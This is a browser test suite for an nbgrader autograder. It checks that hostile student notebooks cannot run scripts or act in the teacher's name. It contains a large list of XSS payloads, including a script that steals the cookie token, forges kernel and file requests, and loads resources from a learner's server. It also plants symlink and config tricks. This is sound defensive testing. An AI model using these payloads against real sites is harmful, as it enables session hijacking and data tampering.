"""A teacher opens what hostile learners handed in, in a real browser: nothing of theirs acts, and grading goes on."""

# ruff: noqa: E501 - an attack is read best on one line

from __future__ import annotations

import http.client
import http.server
import json
import os
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote, urlsplit

import nbformat
import pytest
from nbgrader.api import Gradebook
from playwright.sync_api import Dialog, Page, expect

from autograder.authoring.answers import reference_answers, submission
from autograder.grading.lesson import read_lesson
from autograder.grading.sandbox import probe
from autograder.paths import Course
from tests.browser.test_reading import violations
from tests.grading.conftest import NAME, make_course
from tests.servers import START_SECONDS, Lab, ask, running, wait_for

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.xdist_group("browser")]

HONEST = ("ada", "bob")
ODD_NAME = """o'brien & "><img src=x onerror=taken=1>"""
PICTURE = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

# What a script of a learner's would do if it ran: say so, and act as the teacher.
ATTACK = (
    "top.taken=1;window.taken=1;"
    "var x=(document.cookie.match(/_xsrf=([^;]*)/)||[])[1],h={'X-XSRFToken':x,'X-CSRFToken':x};"
    "fetch('/api/kernels',{method:'POST',headers:h,body:'{}'});"
    "fetch('/api/contents/pwned.txt',{method:'PUT',headers:h,"
    "body:JSON.stringify({type:'file',format:'text',content:'x'})});"
    "for(var i=1;i<40;i++){fetch('/formgrader/api/grades?submission_id='+submission_id)}"
)


def vectors(outside: str) -> dict[str, str]:
    """Markdown and HTML that acts in a page that lets it; ``outside`` is a server of the learner's."""
    quoted = ATTACK.replace('"', "&quot;")
    diagram = f'flowchart TD\n  A@{{ img: "{outside}/diagram", label: "x", pos: "t", w: 60, h: 60 }}'
    styled = f'%%{{init: {{"themeCSS": ".node rect {{background-image: url({outside}/themed)}}"}}}}%%'
    return {
        "diagram": f"```mermaid\n{diagram}\n```",
        "diagram in tildes": f"~~~~ mermaid\n{styled}\n{diagram}\n~~~~",
        "diagram in a quote": "> ``` mermaid\n> " + diagram.replace("\n", "\n> ") + "\n> ```",
        "diagram in a list": "- a\n\n  ```mermaid x\n  " + diagram.replace("\n", "\n  ") + "\n  ```",
        "script": f"<script>{ATTACK}</script>",
        "script from outside": f"<script src='{outside}/script.js'></script>",
        "img": f'<img src=x onerror="{quoted}">',
        "img unclosed": f'<img src=x onerror="{quoted}"',
        "img in a fence": f'```\n</code></pre><img src=x onerror="{quoted}">\n```',
        "img in code": f'`</code><img src=x onerror="{quoted}">`',
        "tilde": f'~~~"><img src=x onerror="{quoted}">\nx\n~~~',
        "info": f'```"><img src=x onerror="{quoted}">\nx\n```',
        "svg": f'<svg onload="{quoted}"><script>{ATTACK}</script></svg>',
        "animate": f'<svg><animate onbegin="{quoted}" attributeName=x dur=1s></svg>',
        "details": f'<details open ontoggle="{quoted}"><summary>a</summary></details>',
        "focus": f'<input autofocus onfocus="{quoted}"><textarea autofocus onfocus="{quoted}"></textarea>',
        "javascript link": f'[click me](javascript:{quote(ATTACK)}) <a href="javascript:{quoted}">and me</a>',
        "javascript link in entities": f'<a href="java&#115;cript&colon;{quoted}">entities</a> <a href=" \tjAvAscript:{quoted}">spaces</a>',
        "reference": f"[reference][r]\n\n[r]: javascript:{quote(ATTACK)}",
        "data link": "[data](data:text/html;base64,PHNjcmlwdD50b3AudGFrZW49MTwvc2NyaXB0Pg==)",
        "link breakout": f'[x](https://example.org/"onmouseover="{quote(ATTACK)}) <https://example.org/"onclick="taken=1>',
        "title breakout": f'[x](https://example.org/ "a" onmouseover={quote(ATTACK)})',
        "alt breakout": f'![<a href](data:image/png;base64,{PICTURE} "x") <img alt="<a onerror={quote(ATTACK)} " src=x>',
        "refresh": f'<meta http-equiv="refresh" content="0;url={outside}/refresh">',
        "form": f'<form action="{outside}/form" id=f><button>Save</button></form><button form=f formaction="{outside}/f2">Next</button>',
        "iframe": f'<iframe srcdoc="<script>{quoted}</script>"></iframe><iframe src="javascript:{quoted}"></iframe>',
        "object": f'<object data="javascript:{quoted}"></object><embed src="{outside}/embed">',
        "style": f"<style>@import '{outside}/import'; body {{display: none; background: url({outside}/background)}}</style>",
        "css link": f'<link rel=stylesheet href="{outside}/style"><link rel=prefetch href="{outside}/prefetch">',
        "base": f'<base href="{outside}/base/">',
        "picture from outside": f"![x]({outside}/picture) <img src={outside}/img> <img srcset={outside}/set>",
        "own server": "![x](/logout) ![x](/formgrader?path=/) <img src=/logout>",
        "mathjax": f"$\\href{{javascript:{ATTACK}}}{{x}}$ $\\unicode{{x3c}}\\require{{html}}\\style{{x:y}}{{z}}$",
        "tex token": f'$\\mmlToken{{mi}}[href="{outside}/token" style="background-color: red"]{{click me}}$',
        "tex tag": f"$$ <img src=x onerror='{ATTACK.replace(chr(39), chr(34))}'> $$",
        "config": f'<script type="text/x-mathjax-config">{ATTACK}</script>',
        "bootstrap": '<a data-toggle="tooltip" data-html="true" title="<img src=x onerror=taken=1>" class="btn" data-link="x">tip</a>',
        "clobber": '<form id=formgrader name=base_url><input name=submission_id id="why"></form><b id="why">why</b>',
        "heading": "# why\n\n## double-two",
        "missing picture": "![gone](attachment:gone.png)",
        "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=taken=1&gt;'>",
        "comment": "<!--><img src=x onerror=taken=1>--> <![CDATA[><img src=x onerror=taken=1>]]> <?x <img src=x onerror=taken=1>?>",
        "noscript": '<noscript><p title="</noscript><img src=x onerror=taken=1>">',
        "jupyterlab": '<button data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}">run</button>',
    }  # fmt: skip


def printing(outside: str) -> str:
    """Code whose outputs act in a page that lets them."""
    html = json.dumps("\n".join(vectors(outside).values()))
    return f"""
from IPython.display import display, publish_display_data
html = {html}
print(html)
for kind in ("text/html", "text/markdown", "image/svg+xml", "text/latex", "application/javascript", "text/vnd.mermaid",
             "application/vnd.jupyter.widget-view+json", "application/vnd.vegalite.v5+json", "image/png", "text/plain"):
    publish_display_data({{kind: html}}, {{kind: {{"isolated": True, "width": '1" onload="taken=1', "alt": html}}}})
publish_display_data({{"image/png": "{PICTURE}"}}, {{"image/png": {{"width": 20, "height": 20}}}})
def double(x):
    raise ValueError(html)
"""


class Outside(http.server.BaseHTTPRequestHandler):
    """A server of the learner's; ``asked`` holds what came."""

    asked: list[str] = []

    def do_GET(self) -> None:
        self.asked.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"window.taken = 1")

    do_POST = do_GET

    def log_message(self, *_) -> None:
        pass


@pytest.fixture(scope="module")
def outside() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Outside)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def lab(course: Course, tmp_path_factory: pytest.TempPathFactory, chromium: str, outside: str) -> Iterator[Lab]:
    """A class of two honest learners, eve who was graded, and mal whose notebook lies in autograded/ as it came."""
    root = tmp_path_factory.mktemp("hostile") / "course"
    shutil.copytree(course.config, root / "autograder", ignore=shutil.ignore_patterns("__pycache__"))
    mine = make_course(root, course.config)
    lesson = read_lesson(mine, NAME)
    right = reference_answers(lesson) | {"why": "Because $2 + 2 = 4$, see `a<b>` and <https://example.org>."}
    hostile = {"why": "\n\n".join(vectors(outside).values()), "double": printing(outside)}
    answers = dict.fromkeys(HONEST, right) | {"eve": right | hostile, "mal": right, ODD_NAME: right}
    for student, written in answers.items():
        folder = mine.classroom / "submitted" / student / NAME
        folder.mkdir(parents=True)
        (folder / f"{NAME}.ipynb").write_bytes(submission(lesson, written))
        (folder / "nbgrader_config.py").write_text(f"open({str(root / 'pwned.txt')!r}, 'w')")
    (mine.classroom / "submitted" / "ada" / NAME / "timestamp.txt").write_text("2026-01-01 10:00:00 UTC")
    (mine.classroom / "submitted" / "ada" / NAME / "submission_secret.txt").write_text("as the exchange makes it")
    how = [] if probe().works else ["--unsafe"]
    subprocess.run(
        [sys.executable, "-m", "autograder", "grade", *how],
        env={**os.environ, "COURSE_ROOT": str(root)}, capture_output=True, check=True,
    )  # fmt: skip
    put_by_hand(mine, outside)
    put_links(mine, submission(lesson, right))
    with running(mine, command="teacher") as lab:
        yield lab


LINKS = "lin"  # whose work is handed in after the class was graded, with links beside it
CANARY = "CANARY-of-the-teacher"


def put_links(course: Course, notebook: bytes) -> None:
    """Beside a right notebook: links to a key, to another's work, to folders, to a device, and a hard link."""
    key = course.root / "secret.key"
    key.write_text(CANARY)
    folder = course.classroom / "submitted" / LINKS / NAME
    folder.mkdir(parents=True)
    (folder / f"{NAME}.ipynb").write_bytes(notebook)
    targets: dict[str, Path | str] = {
        "key.txt": key,
        "all": course.classroom,
        "endless": "/dev/zero",
        "timestamp.txt": key,
    }
    for name, target in targets.items():
        (folder / name).symlink_to(target)
    os.link(key, folder / "hard.txt")


def put_by_hand(course: Course, outside: str) -> None:
    """mal's notebook in autograded/ with all that a grader would have cleaned, in cells of every kind."""
    path = course.classroom / "autograded" / "mal" / NAME / f"{NAME}.ipynb"
    notebook = nbformat.read(path, as_version=4)
    html = "\n\n".join(vectors(outside).values())
    kinds = ("text/html", "text/markdown", "image/svg+xml", "text/latex", "application/javascript")
    outputs = [
        nbformat.v4.new_output("display_data", {kind: html}, metadata={kind: {"isolated": True}}) for kind in kinds
    ]
    outputs += [
        nbformat.v4.new_output("stream", text=html),
        nbformat.v4.new_output("error", ename=html, evalue=html, traceback=[html]),
        nbformat.v4.new_output("execute_result", {"image/png": f'x" onerror="{ATTACK}"', "text/plain": html}),
        nbformat.v4.new_output(
            "display_data", {"application/vnd.jupyter.widget-view+json": {"model_id": "</script>" + html}}
        ),
    ]
    for cell in notebook.cells:
        cell.metadata.tags = [html, "</div><script>taken=1</script>"]
        cell.metadata.magics_language = html
        if cell.cell_type == "code":
            cell.outputs, cell.execution_count = outputs, 1
        else:
            cell.source += "\n\n" + html
            cell.attachments = {"a.png": {"text/html": html}}
    extra = nbformat.v4.new_markdown_cell(html)
    extra.metadata.nbgrader = {
        "grade_id": '"><script>taken=1</script>',
        "solution": True,
        "grade": True,
        "points": html,
    }
    notebook.cells += [extra, nbformat.v4.new_raw_cell(html, metadata={"raw_mimetype": "text/html"})]
    alone = [*vectors(outside).values(), ">" * 3000 + ATTACK, "*[" * 3000 + ATTACK]
    notebook.cells += [nbformat.v4.new_markdown_cell(text) for text in alone]
    notebook.metadata.title = html
    notebook.metadata.language_info = {"name": html, "pygments_lexer": html}
    notebook.metadata.widgets = {"application/vnd.jupyter.widget-state+json": {"state": {"</script>" + html: {}}}}
    path.chmod(0o644)
    path.write_text(json.dumps(notebook))


def address(lab: Lab, student: str) -> str:
    """Formgrader's page of a learner's notebook."""
    with Gradebook("sqlite:///" + str(lab.course.classroom / "gradebook.db")) as gradebook:
        found = gradebook.find_submission_notebook(NAME, NAME, student)
        return lab.page_url(f"/formgrader/submissions/{found.id}/")


def scores(lab: Lab) -> dict[str, list]:
    with Gradebook("sqlite:///" + str(lab.course.classroom / "gradebook.db")) as gradebook:
        return {
            submission.student.id: [
                (grade.name, grade.auto_score, grade.manual_score)
                for notebook in submission.notebooks
                for grade in notebook.grades
            ]
            for submission in gradebook.assignment_submissions(NAME)
        }


def files(course: Course) -> set[str]:
    own = (".jupyter", "__pycache__", ".ipynb_checkpoints")
    return {
        str(path) for path in course.root.rglob("*") if not set(own) & set(path.parts) and "-journal" not in path.name
    }


@pytest.fixture(autouse=True)
def signed_in(lab: Lab, page: Page) -> None:
    """As after JupyterLab was opened; a cookie from nbgrader's own pages would hold for the page's folder only."""
    assert page.request.get(lab.page_url("/api/status")).ok


@pytest.fixture
def untouched(lab: Lab, page: Page) -> Iterator[None]:
    """After the test: no script of a learner's ran in any window, and nothing was done in the teacher's name."""
    before = scores(lab), files(lab.course)
    Outside.asked.clear()
    dialogs: list[str] = []

    def refuse(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", refuse)
    yield
    page.wait_for_timeout(1000)  # what was started has time to arrive
    taken = [f.evaluate("window.taken") for window in page.context.pages for f in window.frames if not f.is_detached()]
    assert taken and not any(taken)
    assert Outside.asked == [] and dialogs == []
    assert json.loads(ask(lab.url, "/api/kernels")[1]) == []
    assert json.loads(ask(lab.url, "/api/terminals")[1]) == []
    assert (scores(lab), files(lab.course)) == before


def http_location(lab: Lab, path: str) -> str:
    """Where a request without the token is led to."""
    parts = urlsplit(lab.url)
    connection = http.client.HTTPConnection(str(parts.hostname), parts.port, timeout=60)
    try:
        connection.request("GET", path)
        answer = connection.getresponse()
        assert answer.status == 302
        return answer.headers["Location"]
    finally:
        connection.close()


def show_submission(page: Page, lab: Lab, student: str) -> list[str]:
    """Open a page of Formgrader's and wait until its points can be given; the browser's complaints about its policy."""
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text) if "Security Policy" in message.text else None)
    page.goto(address(lab, student))
    expect(page.locator("input.score").first).to_have_attribute("placeholder", "0" if student == "eve" else "2")
    return refused


@pytest.mark.parametrize("student", ["eve", "mal"])
@pytest.mark.usefixtures("untouched")
def test_nothing_in_a_submission_acts(lab: Lab, page: Page, picture, student: str) -> None:
    show_submission(page, lab, student)
    for fold in page.locator("details.course-fold").all():
        fold.evaluate("fold => { fold.open = true; }")
    here = page.url
    body = page.locator("#notebook-container").first
    expect(body).to_contain_text("<script>")  # what was written can be read
    expect(body).to_contain_text("onerror=")
    inside = "#notebook-container .text_cell_render, #notebook-container .output_area"
    bad = page.evaluate(
        """(inside) => [...document.querySelectorAll(inside)].flatMap((part) => [...part.querySelectorAll("*")])
        .filter((tag) => /^(SCRIPT|STYLE|IFRAME|OBJECT|EMBED|META|BASE|LINK|FORM|INPUT|BUTTON|TEXTAREA|SVG|MATH)$/i.test(
            tag.tagName) || [...tag.attributes].some((a) => /^on|^id$|^data-|^name$/i.test(a.name)
            || (/^(href|src)$/.test(a.name) && !/^(https?:\\/\\/|mailto:|data:image\\/png;base64,)/.test(a.value))))
        .map((tag) => tag.outerHTML.slice(0, 200))""",
        inside,
    )
    assert bad == []
    for link in page.locator(f":is({inside}) a[href]").all():
        assert link.get_attribute("target") == "_blank" and "noopener" in (link.get_attribute("rel") or "")
        link.dispatch_event("mouseover")
    picture(page, f"hostile-{student}-top")
    page.locator("textarea#why-comment").scroll_into_view_if_needed()
    picture(page, f"hostile-{student}-answer")
    for link in page.locator(f":is({inside}) :is(a, b, details, summary)").all()[:60]:
        link.evaluate("tag => { tag.removeAttribute('href'); tag.click(); }")
    assert page.url == here


def test_the_policy_lets_no_script_of_a_learners_run_either(lab: Lab, page: Page) -> None:
    """The second wall: with the cleaning gone, the browser itself refuses."""
    refused = show_submission(page, lab, "ada")
    assert refused == [], "nbgrader's own page needs nothing that is refused"
    answer = page.request.get(address(lab, "ada"))
    policy = answer.headers["content-security-policy"]
    assert "script-src 'nonce-" in policy and "frame-ancestors" in policy
    assert "unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
    assert page.request.get(address(lab, "ada")).headers["content-security-policy"] != policy, "a new word each time"
    page.evaluate(
        """(attack) => {
            const answer = document.querySelector(".course-written .text_cell_render");
            answer.innerHTML = `<img src=x onerror="${attack}"><svg onload="${attack}"></svg>
                <iframe srcdoc="<script>${attack}</` + `script>"></iframe><a id=go href="javascript:${attack}">go</a>`;
            const script = document.createElement("script");
            script.text = attack;
            document.body.append(script);
        }""",
        "top.taken=1",
    )
    page.locator("#go").click()
    page.wait_for_timeout(1000)
    assert page.evaluate("window.taken") is None
    assert len(refused) >= 4


def test_the_teachers_own_work_goes_on(lab: Lab, page: Page, picture) -> None:
    refused = show_submission(page, lab, "ada")
    assert page.evaluate("MathJax.loaded"), "Formgrader waits for it before its keys work"
    expect(page.locator("input#why.score")).to_be_focused()  # all but the question, its answer and the model is folded
    expect(page.locator("input.score:visible")).to_have_count(1)
    assert page.evaluate("document.documentElement.scrollHeight") < 3000
    answer = page.locator(".nbgrader_cell", has=page.locator("textarea#why-comment"))
    expect(answer).to_contain_text("Because $2 + 2 = 4$, see a<b> and")
    score = page.locator("input#why.score")
    score.fill("1.5")
    score.press("Tab")
    wait_for(lambda: ("why", None, 1.5) in scores(lab)["ada"], 30, "the points to be saved")
    comment = page.locator("textarea#why-comment")
    comment.fill("Good, <b>but</b> why?")
    comment.press("Escape")
    page.get_by_role("button", name="Full credit").last.click()
    wait_for(lambda: ("why", None, 2) in scores(lab)["ada"], 30, "the points to be saved")
    page.locator("span.glyphicon.name-hidden").click()
    expect(page.locator("a.name-shown")).to_be_visible()
    picture(page, "honest-answer")
    page.reload()
    expect(comment).to_have_value("Good, <b>but</b> why?")
    expect(score).to_have_value("2")
    before = page.url
    page.locator("li.next a").click()
    page.wait_for_url(lambda url: url != before)
    expect(page.locator("body")).to_contain_text("Manual Grading")
    assert refused == []


def test_the_autograde_button_follows_no_link(lab: Lab, page: Page) -> None:
    page.goto(lab.page_url(f"/formgrader/manage_submissions/{NAME}"))
    page.locator("tbody tr", has_text=LINKS).locator(".autograde a").click()
    expect(page.get_by_text("Successfully autograded")).to_be_visible(timeout=120_000)
    classroom = lab.course.classroom
    taken = [path for path in (classroom / "autograded" / LINKS).rglob("*") if path.is_file() or path.is_symlink()]
    assert [path.name for path in taken] == [f"{NAME}.ipynb"] and CANARY not in taken[0].read_text()
    assert [auto for _, auto, _ in scores(lab)[LINKS] if auto] == [auto for _, auto, _ in scores(lab)["ada"] if auto]


def test_next_lands_on_the_box_of_the_next_answer(lab: Lab, page: Page, picture) -> None:
    with Gradebook("sqlite:///" + str(lab.course.classroom / "gradebook.db")) as gradebook:
        first = min(found.id for found in gradebook.notebook_submissions(NAME, NAME))
    page.goto(lab.page_url(f"/formgrader/submissions/{first}/"))
    box = page.locator("input#why.score")
    expect(box).to_be_focused()
    for _ in ("extra credit", "comment"):
        page.keyboard.press("Tab")
    expect(page.locator("textarea#why-comment")).to_be_focused()
    page.locator("li.next a").click()
    page.wait_for_url(lambda url: first not in url)
    expect(box).to_be_focused()
    expect(box).to_be_in_viewport()
    picture(page, "next-answer")


@pytest.mark.usefixtures("untouched")
def test_the_page_of_all_answers_shows_them_as_text(lab: Lab, page: Page, picture) -> None:
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text) if "Security Policy" in message.text else None)
    page.goto(lab.page_url(f"/course/written/{NAME}/why"))
    answers = page.locator("article")
    expect(answers).to_have_count(len(scores(lab)))
    hostile = answers.locator(".text", has_text="onerror=")
    expect(hostile).to_contain_text("<script>")
    assert hostile.evaluate("text => text.children.length") == 0
    page.get_by_label("Show names").check()
    expect(page.locator("article .who", has_text=ODD_NAME)).to_be_visible()
    picture(page, "all-answers")
    assert refused == [] and violations(page) == []
    page.goto(lab.page_url("/course/written"))
    expect(page.get_by_role("link", name="Why?")).to_be_visible()
    assert violations(page) == []
    for path in ("/course/written", f"/course/written/{NAME}/why", "/course/class/report.html"):
        assert "next=" in http_location(lab, path), "a stranger is asked for the token"
    policy = page.request.get(lab.page_url(f"/course/written/{NAME}/why")).headers["content-security-policy"]
    assert "default-src 'none'" in policy and "script-src 'nonce-" in policy and "frame-ancestors" in policy
    for path in ("../gradebook.db", "feedback/../gradebook.db", "report.html/..", "grades.csv", "feedback/.x.html"):
        assert ask(lab.url, f"/course/class/{quote(path, safe='/')}")[0] == 404
        assert ask(lab.url, f"/course/class/{quote(path, safe='')}")[0] == 404


def test_answers_are_graded_by_keyboard_and_saved_at_once(lab: Lab, page: Page, picture) -> None:
    page.goto(lab.page_url(f"/course/written/{NAME}/why"))
    cards = page.locator("article")
    expect(cards.first.locator(".score")).to_be_focused()
    ids = [card.get_attribute("data-submission") for card in cards.all()]
    page.keyboard.type("1.5")
    page.keyboard.press("Enter")
    expect(cards.nth(0).locator(".said")).to_have_text("Saved in the gradebook.")
    expect(cards.nth(1).locator(".score")).to_be_focused()
    page.keyboard.type("3")  # there are two points
    page.keyboard.press("Enter")
    expect(cards.nth(1).locator(".said")).to_contain_text("Not saved: points are a number from 0 to 2.")
    page.keyboard.press("Control+A")
    page.keyboard.type("0")
    page.keyboard.press("Tab")
    page.keyboard.type("See <b>section 1</b>.")
    page.keyboard.press("Control+Enter")
    expect(cards.nth(1).locator(".said")).to_have_text("Saved in the gradebook.")
    expect(cards.nth(2).locator(".score")).to_be_focused()
    picture(page, "graded-by-keyboard")
    with Gradebook("sqlite:///" + str(lab.course.classroom / "gradebook.db")) as gradebook:
        found = [gradebook.find_submission_notebook_by_id(one) for one in ids[:2]]
        kept = [
            (grade.manual_score, grade.needs_manual_grade)
            for one in found
            for grade in one.grades
            if grade.name == "why"
        ]
        said = [comment.manual_comment for comment in found[1].comments if comment.name == "why"]
    assert kept == [(1.5, False), (0, False)] and said == ["See <b>section 1</b>."]
    answer = page.request.post(lab.page_url(f"/course/written/{NAME}/why"), data={"submission": ids[0], "points": 2})
    assert answer.status in (400, 403), "without the page's own word nothing is changed"


def test_every_button_of_formgraders_list_works(lab: Lab, page: Page, picture) -> None:
    exchange = lab.course.classroom / "exchange"
    row = page.locator("tbody tr", has_text=NAME)
    outbound, feedback = (
        exchange / "parallel-tensorflow" / "outbound" / NAME,
        exchange / "parallel-tensorflow" / "feedback",
    )

    def press(column: str, says: str) -> None:
        page.goto(lab.page_url("/formgrader"))
        row.locator(f".{column} a").click()
        expect(page.locator(".modal-body")).to_contain_text(says)

    page.goto(lab.page_url("/formgrader"))
    expect(row.locator(".edit a")).to_be_visible()
    expect(page.locator("body")).not_to_contain_text("Add new assignment")
    for column in ("name", "preview"):
        assert page.request.get(lab.page_url(str(row.locator(f".{column} a").get_attribute("href")))).ok
    for shown in ("Written answers", "Class report"):
        page.goto(lab.page_url("/formgrader"))
        page.get_by_role("link", name=shown).click()
        expect(page.locator("h1")).to_have_text(shown)
    expect(page.locator("table.grid")).to_contain_text("ada")
    page.locator("table.grid a", has_text=" of ").first.click()
    expect(page.locator("h1")).to_contain_text(NAME)
    press("release", "Successfully released")
    assert (outbound / f"{NAME}.ipynb").is_file() and exchange.stat().st_mode & 0o777 == 0o700, "nobody chose 0777"
    press("collect", "Successfully collected")
    press("generate-feedback", "Successfully generated feedback")
    press("release-feedback", "Successfully released feedback")
    assert len(list(feedback.glob("*.html"))) == 1, "of the one who handed in through the exchange"
    picture(page, "released-feedback")
    press("release", "Successfully unreleased")
    assert not outbound.exists()
    autograded = lab.course.classroom / "autograded" / "ada" / NAME / f"{NAME}.ipynb"
    gone = autograded.rename(autograded.with_suffix(".gone"))
    answer = page.request.get(address(lab, "ada"))
    assert answer.status == 404 and "Submission notebook file not found" in answer.text()
    gone.rename(autograded)


@pytest.mark.usefixtures("untouched")
def test_lists_show_any_name_and_any_address(lab: Lab, page: Page, picture) -> None:
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text) if "Security Policy" in message.text else None)
    odd, attack = quote(ODD_NAME, safe=""), quote('\\";top.taken=1;//</script><script>top.taken=1</script>', safe="")
    for part, shows in {
        "manage_assignments": NAME,
        f"manage_submissions/{NAME}": ODD_NAME,
        "gradebook": NAME,
        f"gradebook/{NAME}": NAME,
        f"gradebook/{NAME}/{NAME}": "Submission #1",
        "manage_students": ODD_NAME,
        f"manage_students/{odd}": NAME,
        f"manage_students/{odd}/{NAME}": NAME,
    }.items():
        page.goto(lab.page_url(f"/formgrader/{part}"))
        expect(page.locator("#main-table")).to_contain_text(shows)
        assert refused == [], part
    page.goto(lab.page_url("/formgrader/manage_students"))
    page.get_by_role("link", name="Add new student...").click()
    expect(page.locator(".modal-title")).to_have_text("Add New Student")
    page.goto(lab.page_url(f"/formgrader/gradebook/{NAME}/{NAME}"))
    expect(page.locator("#main-table")).to_contain_text("Submission #1")
    page.locator("#toggle_names").click()
    expect(page.locator("#main-table")).to_contain_text(ODD_NAME)
    expect(page.locator("#toggle_names")).to_have_text("Hide All Names")
    picture(page, "odd-name")
    assert refused == []
    page.goto(address(lab, ODD_NAME))
    expect(page.locator("input.score").first).to_have_attribute("placeholder", "2")
    for part in (f"manage_submissions/{attack}", f"gradebook/{attack}/{attack}", f"manage_students/{attack}/{attack}"):
        page.goto(lab.page_url(f"/formgrader/{part}"))
        expect(page.locator("h1").first).to_be_visible()


@pytest.mark.usefixtures("untouched")
def test_a_link_loads_no_settings_of_a_learners(lab: Lab, page: Page) -> None:
    """``?path=`` would run ``nbgrader_config.py``, which a learner may hand in beside the notebook."""
    for folder in (Path("classroom", "submitted", "eve", NAME), lab.course.classroom / "submitted" / "eve" / NAME):
        page.goto(lab.page_url("/formgrader") + f"&path={quote(str(folder), safe='')}")
        expect(page.locator("#main-table")).to_contain_text(NAME)
    assert not (lab.course.root / "pwned.txt").exists()


def test_saving_a_submission_writes_that_file_alone(lab: Lab, page: Page) -> None:
    """JupyterLab saves by itself what is open; jupytext's extension would write the files that the notebook names."""
    path = Path("classroom", "submitted", "bob", NAME, f"{NAME}.ipynb")
    notebook = nbformat.read(lab.course.root / path, as_version=4)
    for formats in (f"{path.parent.as_posix()}//01/sums.ipynb,.//nbgrader/config.py:light", "ipynb,py:percent"):
        notebook.metadata.jupytext = {"formats": formats}
        (lab.course.root / path).write_text(nbformat.writes(notebook))
        before = files(lab.course)
        address = lab.page_url(f"/api/contents/{path.as_posix()}")
        opened = page.request.get(address)
        assert opened.ok
        allowed = {"Authorization": f"token {urlsplit(lab.url).query.removeprefix('token=')}"}
        assert page.request.put(address, data=opened.json(), headers=allowed).ok
        assert files(lab.course) == before


def test_opening_a_submission_runs_nothing_of_its_folder(lab: Lab, page: Page) -> None:
    folder = lab.course.classroom / "submitted" / "bob" / NAME
    beside = [folder / f"{name}.py" for name in ("ipykernel_launcher", "pathlib", "debugpy")]
    for module in beside:
        module.write_text(f"open({str(lab.course.root / 'pwned.txt')!r}, 'w')")
    page.goto(lab.page_url(f"/lab/tree/classroom/submitted/bob/{NAME}/{NAME}.ipynb") + "&reset")
    expect(page.locator("#jp-main-statusbar")).to_contain_text("(ipykernel) | Idle", timeout=START_SECONDS * 1000)
    page.wait_for_timeout(1000)
    assert not (lab.course.root / "pwned.txt").exists()
    for module in beside:
        module.unlink()
    for kernel in json.loads(ask(lab.url, "/api/kernels")[1]):
        ask(lab.url, f"/api/kernels/{kernel['id']}", "DELETE")


def test_jupyterlab_shows_what_was_recorded_and_runs_nothing(lab: Lab, page: Page, picture) -> None:
    Outside.asked.clear()
    before = scores(lab), files(lab.course)
    page.goto(lab.page_url(f"/lab/tree/classroom/autograded/eve/{NAME}/{NAME}.ipynb") + "&reset")
    expect(page.locator(".jp-NotebookPanel .jp-Cell").first).to_be_visible(timeout=START_SECONDS * 1000)
    panel = page.locator(".jp-NotebookPanel")
    for part in (0.3, 0.6, 1):  # cells are made when they come into view
        panel.locator(".jp-WindowedPanel-outer").evaluate(f"panel => panel.scrollTop = panel.scrollHeight * {part}")
        page.wait_for_timeout(1000)
    answer = panel.locator(".jp-RenderedMarkdown", has_text="onerror=")
    expect(answer).to_have_count(1)
    answer.evaluate("answer => answer.scrollIntoView()")
    picture(page, "hostile-in-jupyterlab")
    assert page.evaluate("window.taken") is None
    assert "flowchart TD" in answer.inner_text(), "a diagram is shown as its text"
    assert (
        panel.locator(".jp-RenderedMarkdown :is(.jp-RenderedMermaid, mjx-container [href], a[href*=token])").count()
        == 0
    )
    assert (
        panel.locator(
            ".jp-RenderedMarkdown :is(script, iframe, form, img, button, [data-commandlinker-command])"
        ).count()
        == 0
    )
    assert panel.locator(".jp-OutputArea :is(script, iframe, form, svg, button)").count() == 0
    assert Outside.asked == [] and (scores(lab), files(lab.course)) == before
